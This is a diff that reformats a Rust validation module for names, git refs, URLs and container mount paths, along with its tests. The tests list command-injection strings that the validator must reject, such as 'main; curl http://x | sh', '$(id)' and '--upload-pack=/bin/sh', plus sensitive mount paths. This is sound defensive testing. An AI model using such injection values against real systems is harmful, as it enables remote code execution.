@@ -162,9 +162,11 @@ pub fn check_name(value: &str) -> Result<(), ShapeError> {
     if ok {
         Ok(())
     } else {
-        Err(ShapeError::new(codes::NAME, format!("`{value}` is not a valid name")).help(
-            "use 2 to 40 lowercase letters, digits and single dashes, starting with a letter",
-        ))
+        Err(
+            ShapeError::new(codes::NAME, format!("`{value}` is not a valid name")).help(
+                "use 2 to 40 lowercase letters, digits and single dashes, starting with a letter",
+            ),
+        )
     }
 }
 
@@ -172,10 +174,17 @@ pub fn check_name(value: &str) -> Result<(), ShapeError> {
 /// server generates names such as `x7k` or `88s` (3 to 6 lowercase letters and digits).
 pub fn check_workspace_name(value: &str) -> Result<(), ShapeError> {
     let first_is_digit = value.as_bytes().first().is_some_and(u8::is_ascii_digit);
-    let rest = if first_is_digit { format!("a{}", &value[1..]) } else { value.to_owned() };
+    let rest = if first_is_digit {
+        format!("a{}", &value[1..])
+    } else {
+        value.to_owned()
+    };
     check_name(&rest).map_err(|_| {
-        ShapeError::new(codes::NAME, format!("`{value}` is not a valid workspace name"))
-            .help("use 2 to 40 lowercase letters, digits and single dashes")
+        ShapeError::new(
+            codes::NAME,
+            format!("`{value}` is not a valid workspace name"),
+        )
+        .help("use 2 to 40 lowercase letters, digits and single dashes")
     })
 }
 
@@ -184,12 +193,17 @@ pub fn check_workspace_name(value: &str) -> Result<(), ShapeError> {
 pub fn check_resource_name(value: &str, max_segments: usize) -> Result<(), ShapeError> {
     let segments = value.split('.').count();
     if value.len() > 128 {
-        return Err(ShapeError::new(codes::NAME, "a name is at most 128 characters"));
+        return Err(ShapeError::new(
+            codes::NAME,
+            "a name is at most 128 characters",
+        ));
     }
     if segments > max_segments {
         return Err(ShapeError::new(
             codes::NAME,
-            format!("`{value}` has {segments} dot-separated parts; at most {max_segments} are allowed here"),
+            format!(
+                "`{value}` has {segments} dot-separated parts; at most {max_segments} are allowed here"
+            ),
         ));
     }
     value.split('.').try_for_each(check_name)
@@ -201,8 +215,11 @@ pub fn check_git_ref(value: &str) -> Result<(), ShapeError> {
         return Ok(());
     }
     let bad = |why: &str| {
-        Err(ShapeError::new(codes::GIT_REF, format!("`{}` is not a valid git ref: {why}", value.escape_debug()))
-            .help("use a branch, tag or commit such as `main`, `v1.2.3` or `release/2026-01`"))
+        Err(ShapeError::new(
+            codes::GIT_REF,
+            format!("`{}` is not a valid git ref: {why}", value.escape_debug()),
+        )
+        .help("use a branch, tag or commit such as `main`, `v1.2.3` or `release/2026-01`"))
     };
     if value.len() > 255 {
         return bad("longer than 255 characters");
@@ -232,12 +249,18 @@ pub fn check_url(value: &str) -> Result<(), ShapeError> {
         return Err(ShapeError::new(codes::URL, "the URL is empty"));
     }
     if value.len() > 256 {
-        return Err(ShapeError::new(codes::URL, "a URL is at most 256 characters"));
+        return Err(ShapeError::new(
+            codes::URL,
+            "a URL is at most 256 characters",
+        ));
     }
     if value.chars().any(|c| c.is_whitespace() || c.is_control()) {
         return Err(ShapeError::new(
             codes::URL,
-            format!("`{}` is not a valid URL: it contains white space", value.escape_debug()),
+            format!(
+                "`{}` is not a valid URL: it contains white space",
+                value.escape_debug()
+            ),
         ));
     }
     Ok(())
@@ -247,15 +270,15 @@ pub fn check_url(value: &str) -> Result<(), ShapeError> {
 pub fn check_https_url(value: &str) -> Result<(), ShapeError> {
     check_url(value)?;
     let Some(rest) = value.strip_prefix("https://") else {
-        return Err(ShapeError::new(
-            codes::URL,
-            format!("`{value}` is not an https URL"),
-        )
-        .help(match (value.split_once("://"), scp_like(value)) {
-            (Some((_, rest)), _) => format!("use `https://{rest}`"),
-            (None, Some((host, path))) => format!("use `https://{host}/{path}`"),
-            (None, None) => format!("use `https://{value}`"),
-        }));
+        return Err(
+            ShapeError::new(codes::URL, format!("`{value}` is not an https URL")).help(
+                match (value.split_once("://"), scp_like(value)) {
+                    (Some((_, rest)), _) => format!("use `https://{rest}`"),
+                    (None, Some((host, path))) => format!("use `https://{host}/{path}`"),
+                    (None, None) => format!("use `https://{value}`"),
+                },
+            ),
+        );
     };
     let host = rest.split(['/', '?', '#']).next().unwrap_or("");
     let host = host.rsplit('@').next().unwrap_or(host);
@@ -264,7 +287,10 @@ pub fn check_https_url(value: &str) -> Result<(), ShapeError> {
             .chars()
             .all(|c| c.is_ascii_alphanumeric() || "-.:[]".contains(c))
     {
-        return Err(ShapeError::new(codes::URL, format!("`{value}` has no valid host")));
+        return Err(ShapeError::new(
+            codes::URL,
+            format!("`{value}` has no valid host"),
+        ));
     }
     Ok(())
 }
@@ -273,18 +299,38 @@ pub fn check_https_url(value: &str) -> Result<(), ShapeError> {
 fn scp_like(value: &str) -> Option<(&str, &str)> {
     let (user_host, path) = value.split_once(':')?;
     let (_, host) = user_host.split_once('@')?;
-    (!host.is_empty() && !host.contains('/') && !path.is_empty()).then(|| (host, path.trim_start_matches('/')))
+    (!host.is_empty() && !host.contains('/') && !path.is_empty())
+        .then(|| (host, path.trim_start_matches('/')))
 }
 
 /// Exact paths that may not be mount points.
 pub const RESERVED_MOUNT_PATHS: &[&str] = &[
-    "/", "/bin", "/boot", "/etc", "/lib", "/lib32", "/lib64", "/root", "/sbin", "/tmp", "/usr",
-    "/var", "/var/tmp", "/workspace",
+    "/",
+    "/bin",
+    "/boot",
+    "/etc",
+    "/lib",
+    "/lib32",
+    "/lib64",
+    "/root",
+    "/sbin",
+    "/tmp",
+    "/usr",
+    "/var",
+    "/var/tmp",
+    "/workspace",
 ];
 /// Trees (the path and everything below) that may not be mount points.
 pub const RESERVED_MOUNT_TREES: &[&str] = &[
-    "/dev", "/octelium", "/proc", "/run", "/sys", "/var/lib/containers", "/var/lib/docker",
-    "/var/run", "/cordium-volumes",
+    "/dev",
+    "/octelium",
+    "/proc",
+    "/run",
+    "/sys",
+    "/var/lib/containers",
+    "/var/lib/docker",
+    "/var/run",
+    "/cordium-volumes",
 ];
 
 /// Checks a volume mount path (upstream `CheckVolumeMountPath`).
@@ -297,18 +343,25 @@ pub fn check_mount_path(value: &str) -> Result<(), ShapeError> {
         return bad("a mount path is at most 256 characters".into());
     }
     if !value.starts_with('/') {
-        return Err(ShapeError::new(codes::MOUNT_PATH, format!("`{value}` is not an absolute path"))
-            .help(format!("use `/{}`", value.trim_start_matches(['.', '/']))));
+        return Err(ShapeError::new(
+            codes::MOUNT_PATH,
+            format!("`{value}` is not an absolute path"),
+        )
+        .help(format!("use `/{}`", value.trim_start_matches(['.', '/']))));
     }
     if value.contains(['\\', '\0']) {
         return bad(format!("`{}` contains `\\` or NUL", value.escape_debug()));
     }
     let clean = value.len() == 1
         || (!value.ends_with('/')
-            && value[1..].split('/').all(|s| !s.is_empty() && s != "." && s != ".."));
+            && value[1..]
+                .split('/')
+                .all(|s| !s.is_empty() && s != "." && s != ".."));
     if !clean {
-        return Err(ShapeError::new(codes::MOUNT_PATH, format!("`{value}` is not a clean path"))
-            .help("remove trailing `/`, `//`, `.` and `..`"));
+        return Err(
+            ShapeError::new(codes::MOUNT_PATH, format!("`{value}` is not a clean path"))
+                .help("remove trailing `/`, `//`, `.` and `..`"),
+        );
     }
     if RESERVED_MOUNT_PATHS.contains(&value) {
         return bad(format!("`{value}` is a reserved path"));
@@ -329,12 +382,19 @@ pub fn check_capability(value: &str) -> Result<(), ShapeError> {
         || (!b.is_empty()
             && b.len() <= 30
             && b[0].is_ascii_uppercase()
-            && b.iter().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || *c == b'_'));
+            && b.iter()
+                .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || *c == b'_'));
     if ok {
         Ok(())
     } else {
-        let mut e = ShapeError::new(codes::CAPABILITY, format!("`{value}` is not a capability name"));
-        let fixed = value.trim_start_matches("CAP_").trim_start_matches("cap_").to_ascii_uppercase();
+        let mut e = ShapeError::new(
+            codes::CAPABILITY,
+            format!("`{value}` is not a capability name"),
+        );
+        let fixed = value
+            .trim_start_matches("CAP_")
+            .trim_start_matches("cap_")
+            .to_ascii_uppercase();
         if fixed != value && check_capability(&fixed).is_ok() {
             e = e.help(format!("write `{fixed}`"));
         } else {
@@ -351,35 +411,124 @@ mod tests {
     #[test]
     fn git_refs_from_upstream_tests() {
         let long = "a".repeat(300);
-        for ok in ["", "main", "master", "v1.2.3", "release/2026-01", "feature/JIRA-123_thing", "users/bob/wip", "9a1f0c4e2b7d8f6a3c5e1b9d7f2a4c6e8b0d2f4a", "HEAD", "1.0.0+build.7"] {
+        for ok in [
+            "",
+            "main",
+            "master",
+            "v1.2.3",
+            "release/2026-01",
+            "feature/JIRA-123_thing",
+            "users/bob/wip",
+            "9a1f0c4e2b7d8f6a3c5e1b9d7f2a4c6e8b0d2f4a",
+            "HEAD",
+            "1.0.0+build.7",
+        ] {
             assert!(check_git_ref(ok).is_ok(), "{ok}");
         }
-        for bad in ["main; curl http://x | sh", "main && id", "main`id`", "main$(id)", "main\nid", "main id", "main|id", "main>out", "main'x'", "main\"x\"", "main&", "-main", "--upload-pack=/bin/sh", "-o", "a..b", "..", "main.lock", "refs/heads/", long.as_str()] {
-            assert_eq!(check_git_ref(bad).map_err(|e| e.code), Err(codes::GIT_REF), "{bad:?}");
+        for bad in [
+            "main; curl http://x | sh",
+            "main && id",
+            "main`id`",
+            "main$(id)",
+            "main\nid",
+            "main id",
+            "main|id",
+            "main>out",
+            "main'x'",
+            "main\"x\"",
+            "main&",
+            "-main",
+            "--upload-pack=/bin/sh",
+            "-o",
+            "a..b",
+            "..",
+            "main.lock",
+            "refs/heads/",
+            long.as_str(),
+        ] {
+            assert_eq!(
+                check_git_ref(bad).map_err(|e| e.code),
+                Err(codes::GIT_REF),
+                "{bad:?}"
+            );
         }
     }
 
     #[test]
     fn mount_paths_from_upstream_tests() {
-        for ok in ["/data", "/mnt/datasets", "/home/octelium/data", "/workspace-data", "/opt/models", "/var/lib/my-app", "/etc/my-app"] {
+        for ok in [
+            "/data",
+            "/mnt/datasets",
+            "/home/octelium/data",
+            "/workspace-data",
+            "/opt/models",
+            "/var/lib/my-app",
+            "/etc/my-app",
+        ] {
             assert!(check_mount_path(ok).is_ok(), "{ok}");
         }
         let nuls = format!("/{}", "\0".repeat(300));
-        for bad in ["", "data", "./data", "../data", "/", "/data/", "/data/../etc", "/data//cache", "/proc", "/sys", "/dev", "/etc", "/usr", "/var", "/var/tmp", "/var/run", "/var/lib/docker", "/tmp", "/run", "/workspace", "/cordium-volumes", "/cordium-volumes/abc", "/proc/self", "/sys/fs/cgroup", "/dev/shm", "/run/octelium", "/var/run/octelium-proxy.sock", "/var/lib/docker/overlay", "/var/lib/containers/storage", "/octelium", "/octelium/workspace", "/data\\x", nuls.as_str()] {
-            assert_eq!(check_mount_path(bad).map_err(|e| e.code), Err(codes::MOUNT_PATH), "{bad:?}");
+        for bad in [
+            "",
+            "data",
+            "./data",
+            "../data",
+            "/",
+            "/data/",
+            "/data/../etc",
+            "/data//cache",
+            "/proc",
+            "/sys",
+            "/dev",
+            "/etc",
+            "/usr",
+            "/var",
+            "/var/tmp",
+            "/var/run",
+            "/var/lib/docker",
+            "/tmp",
+            "/run",
+            "/workspace",
+            "/cordium-volumes",
+            "/cordium-volumes/abc",
+            "/proc/self",
+            "/sys/fs/cgroup",
+            "/dev/shm",
+            "/run/octelium",
+            "/var/run/octelium-proxy.sock",
+            "/var/lib/docker/overlay",
+            "/var/lib/containers/storage",
+            "/octelium",
+            "/octelium/workspace",
+            "/data\\x",
+            nuls.as_str(),
+        ] {
+            assert_eq!(
+                check_mount_path(bad).map_err(|e| e.code),
+                Err(codes::MOUNT_PATH),
+                "{bad:?}"
+            );
         }
     }
 
     #[test]
     fn https_urls() {
         assert!(check_https_url("https://github.com/example/example.git").is_ok());
-        for bad in ["http://example.com/example/example", "github.com/example/example", "https://", "https:// x"] {
+        for bad in [
+            "http://example.com/example/example",
+            "github.com/example/example",
+            "https://",
+            "https:// x",
+        ] {
             assert!(check_https_url(bad).is_err(), "{bad}");
         }
         let e = check_https_url("http://example.com/a").expect_err("http");
         assert_eq!(e.help.as_deref(), Some("use `https://example.com/a`"));
         let e = check_https_url("git@github.com:acme/protos.git").expect_err("scp-like");
-        assert_eq!(e.help.as_deref(), Some("use `https://github.com/acme/protos.git`"));
+        assert_eq!(
+            e.help.as_deref(),
+            Some("use `https://github.com/acme/protos.git`")
+        );
     }
 
     #[test]
